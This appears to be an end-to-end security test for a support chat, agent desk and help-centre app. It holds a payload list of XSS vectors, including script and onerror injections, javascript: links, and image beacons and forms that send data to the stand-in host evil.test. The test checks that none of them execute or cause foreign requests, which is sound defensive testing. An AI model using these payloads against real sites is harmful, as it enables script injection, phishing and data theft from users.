import { randomBytes } from 'node:crypto';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { adminOf, startApp, type TestApp } from '../support/app.ts';
import { openBrowser, openPage, signIn } from '../support/browser.ts';

// What customers, colleagues and articles write is text: in the chat, at the desk, in the editor's preview and on the help pages.
let app: TestApp;
let browser: Browser;
beforeAll(async () => {
  [app, browser] = await Promise.all([
    startApp({ LIMIT_MESSAGES_AT_ONCE: '10000', LIMIT_MESSAGES_PER_MINUTE: '100000', LIMIT_LOGINS_15_MINUTES: '1000' }),
    openBrowser(),
  ]);
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});

const run = 'window.__ran=(window.__ran||0)+1';
const vectors = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><animate attributeName=href values="javascript:${run}"/></svg>`,
  `"><svg/onload=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}">click</a>`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt&#58;${run})`,
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '![p](https://evil.test/p?d=PII)',
  '![p][r]\n\n[r]: https://evil.test/p',
  '[Track your order](https://evil.test/?o=123&e=a@b.c)',
  '<form action=https://evil.test><input type=password></form>',
  '<a style="position:fixed;inset:0" href="https://evil.test">x</a>',
  '<p id=root><img name=getElementById>',
  `<math><mtext><table><mglyph><style><img src onerror="${run}">`,
  `{{constructor.constructor('${run}')()}}`,
  '${7*7} <%= 7*7 %> #{7*7}',
  '<style>*{background:url(https://evil.test/c)}</style>',
  '<link rel=stylesheet href=https://evil.test/c>',
  '<base href=https://evil.test>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<object data=https://evil.test></object><embed src=https://evil.test>',
  '<video autoplay src=https://evil.test/v></video>',
  `<details open ontoggle="${run}">x</details>`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  '\u202Egnp.exe \u2066hidden\u2069 \u{E0041}\u{E0042}',
  `z${'\u0301\u0302\u0303'.repeat(300)}`,
  'a'.repeat(3900),
  '*a_'.repeat(1200),
  '> '.repeat(1500),
  '['.repeat(3000),
  '# Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `\`\`\`\n<img src=x onerror=${run}>\n\`\`\``,
];

function watch(page: Page): { foreign: string[]; dialogs: string[] } {
  const seen = { foreign: [] as string[], dialogs: [] as string[] };
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (/^https?:$/.test(url.protocol) && url.origin !== app.base) seen.foreign.push(url.href);
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return seen;
}

async function clean(page: Page, seen: ReturnType<typeof watch>, where: string) {
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __ran?: number }).__ran ?? 0), where).toBe(0);
  expect(seen, where).toEqual({ foreign: [], dialogs: [] });
}

test('nothing that anybody writes runs, loads or leads elsewhere', async () => {
  const customer = await openPage(browser, { locale: 'en-GB' });
  const customerSees = watch(customer.page);
  await customer.page.goto(app.base);
  await customer.page.locator('anshin-chat button[data-anshin=launcher]').click();
  await customer.page.locator('anshin-chat textarea').waitFor();
  await expect.poll(() => customer.page.evaluate(() => localStorage.getItem('anshin.secret'))).not.toBeNull();
  const secret = await customer.page.evaluate(() => localStorage.getItem('anshin.secret'));
  const entered = (await (
    await fetch(`${app.base}/channels/web/token`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ secret }),
    })
  ).json()) as { token: string; conversationId: string };
  // The customer's messages, their page and their name.
  const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${entered.token}` };
  for (const text of vectors) {
    const response = await fetch(`${app.base}/channels/web/messages`, {
      method: 'POST',
      headers,
      body: JSON.stringify({
        clientId: randomBytes(8).toString('hex'),
        text,
        context: { page: vectors[0], title: vectors[3], url: `https://shop.test/?q=${vectors[1]}` },
      }),
    });
    expect(response.status).toBe(202);
  }
  await app.pool.query('update contact set name = $1 where id = (select contact_id from conversation where id = $2)', [
    vectors[3],
    entered.conversationId,
  ]);
  await expect
    .poll(
      async () =>
        (await app.pool.query('select turn_due_at from conversation where id = $1', [entered.conversationId])).rows[0]
          .turn_due_at,
      { timeout: 30_000 },
    )
    .toBeNull();

  // The agent's side.
  const admin = await adminOf(app);
  const invited = (await (
    await admin.call('POST', '/people', { email: 'x@example.com', name: 'Xena', roles: ['admin'] })
  ).json()) as { link: string };
  const staff = await openPage(browser, { locale: 'en-GB' });
  const staffSees = watch(staff.page);
  await signIn(staff.page, app, invited.link, 'Xena');
  const { conversation } = await admin.conversation(entered.conversationId);
  const act = conversation.state === 'waiting' ? 'claim' : 'takeover';
  const taken = await admin.call('POST', `/desk/conversations/${conversation.id}/${act}`, {
    ownerVersion: conversation.ownerVersion,
  });
  const { ownerVersion } = (await taken.json()) as { ownerVersion: number };
  for (const text of vectors) {
    await admin.call('POST', `/desk/conversations/${conversation.id}/reply`, {
      text,
      clientId: randomBytes(8).toString('hex'),
      ownerVersion,
    });
    await admin.call('POST', `/desk/conversations/${conversation.id}/note`, {
      text,
      clientId: randomBytes(8).toString('hex'),
    });
  }
  await staff.page.goto(`${app.base}/staff/desk/${conversation.id}`);
  await staff.page.goto(`${app.base}/staff`);
  await staff.page.getByTestId('queue-row').first().click();
  await staff.page.locator('.message').first().waitFor();
  await expect.poll(() => staff.page.locator('.message').count()).toBeGreaterThan(vectors.length);
  await clean(staff.page, staffSees, 'the desk');
  await expect.poll(() => customer.page.locator('anshin-chat .row').count(), { timeout: 20_000 }).toBeGreaterThan(40);
  await clean(customer.page, customerSees, 'the chat');
  // Literal text stands there, and no link leads to a host that is not ours.
  const links = await customer.page
    .locator('anshin-chat .list a')
    .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
  for (const link of links) expect(new URL(link).origin).toBe(app.base);

  // An article of an editor: in the preview, in the answer, on the help page.
  await admin.call('POST', '/knowledge', { slug: 'evil-article' });
  const saved = await admin.call('PUT', '/knowledge/evil-article/en', {
    title: `${vectors[3]} policy`,
    questions: ['what is the yodel policy', vectors[0]],
    keywords: [vectors[1]],
    body: vectors.join('\n\n').slice(0, 15_000),
    baseVersion: 0,
  });
  expect(await saved.text()).not.toContain('"error"');
  const published = await admin.call('POST', '/knowledge/evil-article/en/publish', { baseVersion: 1 });
  expect(await published.text()).not.toContain('"error"');
  await staff.page.goto(`${app.base}/staff/knowledge/evil-article/en`);
  await staff.page.waitForTimeout(1500);
  await clean(staff.page, staffSees, 'the editor');
  expect((await customer.page.goto(`${app.base}/help/en/evil-article`))?.status()).toBe(200);
  await clean(customer.page, customerSees, 'the help page');
  await customer.page.goto(`${app.base}/help/en`);
  await clean(customer.page, customerSees, 'the list of help pages');
  expect(app.running.app.locals.cspReports).toEqual([]);
  expect([...customer.problems, ...staff.problems]).toEqual([]);
  await customer.close();
  await staff.close();
}, 120_000);
